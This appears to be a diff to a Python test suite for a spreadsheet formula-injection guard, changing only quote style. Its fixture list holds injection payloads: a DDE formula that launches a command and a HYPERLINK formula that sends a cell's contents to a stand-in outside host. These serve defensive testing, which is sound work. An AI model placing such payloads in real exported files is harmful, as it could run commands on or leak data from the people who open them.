@@ -12,7 +12,7 @@ FORMULAS = (
     "-1",
     "@SUM(A1)",
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://elsewhere.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://elsewhere.example/?"&A1,"click")',
     "＝1+1",
     "－1",
     "＋1",
@@ -79,7 +79,7 @@ def test_every_text_comes_back(text: str) -> None:
 def test_no_cell_by_any_separator_begins_with_a_sign(text: str) -> None:
     for separator in ",;\t\n":
         for cell in guarded(text).split(separator):
-            assert not cell.strip(" \"").startswith(("=", "+", "-", "@"))
+            assert not cell.strip(' "').startswith(("=", "+", "-", "@"))
 
 
 def test_what_no_file_may_hold_is_left_out() -> None:
